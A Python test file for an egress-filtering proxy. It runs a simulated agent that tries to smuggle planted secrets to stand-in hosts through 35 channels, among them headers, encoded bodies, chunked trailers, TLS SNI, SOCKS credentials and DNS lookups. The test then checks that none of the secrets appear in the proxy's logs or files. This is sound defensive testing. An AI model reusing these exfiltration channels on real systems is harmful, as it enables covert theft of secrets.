"""Distinct secrets in every place that an agent can write to; none of them in what we write."""

from __future__ import annotations

import base64
import json
import os
import secrets
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from drawn_secrets import drawn
from isolation_probe import run_options
from scan_lab import token

from aesp_proxy.record.reader import read_state

PROGRAM = Path(sys.executable).parent / "aesp-proxy"
WAIT_S = 90.0
POLICY = """\
version: "1.2.0"
name: planted
guards:
  egress_allowlist:
    default_action: block
    allow: [plain.example, "plain.example:80", "*.wild.example"]
  secret_leak: {enabled: true}
"""
# What the agent does with each: raw bytes to the proxy, names to the resolver, bodies.
AGENT = r"""
import base64, concurrent.futures, gzip, json, os, socket, ssl, urllib.parse
where = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
plants = json.load(open("plants.json"))
HEAD = "POST http://plain.example/ HTTP/1.1\r\nHost: plain.example\r\n"
def talk(*parts, tls=None):
    try:
        with socket.create_connection((where.hostname, where.port), 10) as sock:
            for number, part in enumerate(parts):
                if tls and number == 1:
                    context = ssl._create_unverified_context()
                    sock = context.wrap_socket(sock, server_hostname=tls)
                sock.sendall(part if isinstance(part, bytes) else part.encode("latin-1"))
                if number < len(parts) - 1:
                    sock.recv(65536)
            sock.settimeout(1)
            while sock.recv(65536):
                pass
    except OSError:
        pass
def body(data, fields=""):
    data = data if isinstance(data, bytes) else data.encode()
    return (HEAD + fields + f"Content-Length: {len(data)}\r\n\r\n").encode() + data
def get(path, fields=""):
    return f"GET http://plain.example{path} HTTP/1.1\r\nHost: plain.example\r\n{fields}\r\n"
def connect(host):
    return f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n"
def socks(host, user, password):
    user, password, host = user.encode(), password.encode(), host.encode()
    return (b"\5\1\2", b"\1" + bytes([len(user)]) + user + bytes([len(password)]) + password,
            b"\5\1\0\3" + bytes([len(host)]) + host + b"\1\xbb")
def resolve(name):
    try:
        socket.getaddrinfo(name, 443)
    except OSError:
        pass
def plant(place, s):
    match place.rpartition(":")[2]:
        case "path": talk(get(f"/a/{s}/b"))
        case "query": talk(get(f"/?k={s}"))
        case "header": talk(get("/", f"X-Key: {s}\r\n"))
        case "agent": talk(get("/", f"User-Agent: {s}\r\n"))
        case "cookie": talk(get("/", f"Cookie: s={s}\r\n"))
        case "basic":
            value = base64.b64encode(f"me:{s}".encode()).decode()
            talk(get("/", f"Authorization: Basic {value}\r\n"))
        case "body": talk(body(s))
        case "base64": talk(body(base64.b64encode(s.encode())))
        case "hex": talk(body(s.encode().hex()))
        case "gzip": talk(body(gzip.compress(s.encode()), "Content-Encoding: gzip\r\n"))
        case "coding": talk(body(s, f"Content-Encoding: {s}\r\n"))
        case "type": talk(body("x", f"Content-Type: {s}\r\n"))
        case "multipart":
            part = f'--x\r\nContent-Disposition: form-data; name="f"; filename="{s}"\r\n\r\n'
            talk(body(part + "x\r\n--x--\r\n", "Content-Type: multipart/form-data; boundary=x\r\n"))
        case "extension":
            talk(HEAD + f"Transfer-Encoding: chunked\r\n\r\n1;{s}\r\nx\r\n0\r\n\r\n")
        case "trailer":
            talk(HEAD + f"Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\nX-Key: {s}\r\n\r\n")
        case "size": talk(HEAD + f"Transfer-Encoding: chunked\r\n\r\n{s}\r\nx\r\n")
        case "length": talk(HEAD + f"Content-Length: {s}\r\n\r\n")
        case "method": talk(f"{s} http://plain.example/ HTTP/1.1\r\nHost: plain.example\r\n\r\n")
        case "version": talk(f"GET http://plain.example/ {s}\r\n\r\n")
        case "scheme": talk(f"GET {s}://plain.example/ HTTP/1.1\r\nHost: plain.example\r\n\r\n")
        case "field": talk(get("/", f"X {s}: y\r\n"))
        case "line": talk(f"{s}\r\n\r\n")
        case "userinfo": talk(get("").replace("plain", f"u:{s}@plain", 1))
        case "hosts": talk(get("/", f"Host: {s}.example\r\n"))
        case "host": talk(f"GET http://{s}.example/ HTTP/1.1\r\nHost: {s}.example\r\n\r\n")
        case "wild": talk(get("/").replace("plain", f"{s}.wild"))
        case "connect": talk(connect(f"{s}.example"))
        case "port": talk(f"CONNECT plain.example:{s} HTTP/1.1\r\nHost: plain.example\r\n\r\n")
        case "sni": talk(connect("plain.example"), b"", tls=f"{s}.example")
        case "inside": talk(connect("plain.example"), f"{s}\r\n\r\n", tls="plain.example")
        case "raw": talk(connect("plain.example"), f"\x01\x02 {s}\r\n")
        case "socks": talk(*socks(f"{s}.example", "u", "p"))
        case "user": talk(*socks("plain.example", s, s))
        case "name": resolve(f"{s}.example")
        case "wildname": resolve(f"{s}.wild.example")
def answered():
    # The command may be there before the rules are: its first request waits for them.
    with socket.create_connection((where.hostname, where.port), 60) as sock:
        sock.sendall(get("/", "Connection: close\r\n").encode())
        while sock.recv(65536):
            pass
answered()
with concurrent.futures.ThreadPoolExecutor(16) as pool:
    list(pool.map(plant, plants, plants.values()))
print(json.dumps({"done": len(plants)}))
"""
KINDS = (
    "path", "query", "header", "agent", "cookie", "basic", "body", "base64", "hex", "gzip",
    "coding", "type", "multipart", "extension", "trailer", "size", "length", "method", "version",
    "scheme", "field", "line", "userinfo", "hosts", "host", "wild", "connect", "port", "sni",
    "inside", "raw", "socks", "user", "name", "wildname",
)  # fmt: skip


def forms(secret: str) -> set[bytes]:
    raw = secret.encode()
    return {
        raw, raw.lower(), raw[::-1], raw.hex().encode(), raw[8:28], raw[8:28].lower(),
        base64.b64encode(raw).rstrip(b"=")[:-1], base64.b64encode(b"me:" + raw)[5:-4],
    }  # fmt: skip


def recent_files(since: float, besides: Path) -> list[Path]:
    found = []
    for folder in {Path(tempfile.gettempdir()), Path("/tmp"), Path("/var/tmp"), Path.cwd()}:
        for path in folder.glob("*"):
            named = path.name.startswith(("aesp", "core", "tmp"))
            if named and path.is_file() and path.stat().st_mtime >= since and path != besides:
                found.append(path)
    return found


def test_no_planted_secret_is_in_anything_that_we_write(tmp_path: Path):
    began = time.time()
    registered = {f"env:{kind}": drawn(40) for kind in KINDS}
    by_rule = {f"rule:{kind}": token(secrets.randbits(64)) for kind in KINDS}
    plants = registered | by_rule
    (tmp_path / "plants.json").write_text(json.dumps(plants))
    (tmp_path / "policy.yaml").write_text(POLICY)
    (tmp_path / "config.yaml").write_text(
        "policy: policy.yaml\nstate_dir: state\nsecrets: {sources: ''}\n"
        "upstream:\n  connect_timeout_s: 2\n  resolve: {plain.example: '127.0.0.1:9'}\n"
    )
    environ = {f"PLANT_{place[4:].upper()}_TOKEN": value for place, value in registered.items()}
    ran = subprocess.run(
        [str(PROGRAM), "run", "--config", "config.yaml", *run_options(), "--", sys.executable,
         "-c", AGENT],
        env={
            "PATH": os.environ["PATH"], "HOME": str(tmp_path), **environ,
            "MITMPROXY_SSLKEYLOGFILE": str(tmp_path / "keys"),
        },
        cwd=tmp_path, capture_output=True, check=False, timeout=WAIT_S,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr.decode()
    assert b"registered 35 secret values" in ran.stderr
    assert not (tmp_path / "keys").exists()
    state = tmp_path / "state"
    records = [record for _, record in read_state(state)]
    refused = {record.reason for record in records if record.verdict == "deny"}
    assert {"secret_found", "malformed"} <= refused
    assert len(records) > len(plants)
    written = {"output": ran.stdout + ran.stderr, "records": repr(records).encode()}
    files = [path for path in state.rglob("*") if path.is_file()]
    files += recent_files(began, tmp_path / "plants.json")
    written |= {str(path): path.read_bytes() for path in files}
    leaks = {
        (place, where)
        for place, secret in plants.items()
        for where, data in written.items()
        if any(form in data for form in forms(secret))
    }
    assert leaks == set()
